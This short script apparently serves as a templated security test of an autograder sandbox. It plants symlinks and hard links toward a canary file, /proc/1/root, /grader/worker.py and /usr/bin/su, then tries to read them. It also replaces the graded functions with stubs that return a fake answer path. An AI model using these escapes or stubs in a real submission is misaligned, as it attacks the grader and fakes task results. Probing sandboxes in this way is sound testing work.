# Links out of the temporary folder, for a grader that would follow them, and hard links.

# %% *
import os

os.makedirs("submitted/ps1", exist_ok=True)
targets = {"answer.npy": "{{canary}}", "course": "{{course}}", "root": "/proc/1/root"}
for name, target in targets.items():
    if not os.path.islink(name):
        os.symlink(target, name)
for target in ("{{canary}}", "/proc/1/root{{canary}}", "/grader/worker.py", "/usr/bin/su"):
    try:
        os.link(target, "hard")
        print("EVIDENCE: a hard link to", target)
    except OSError:
        continue
for name in ("answer.npy", "course/canary.txt", "root{{canary}}"):
    try:
        print("EVIDENCE:", open(name).read())
    except OSError:
        continue


def step(*args):
    print("tried")
    return "/tmp/answer.npy"


step_backward, prediction = step, "file:///tmp/answer.npy"
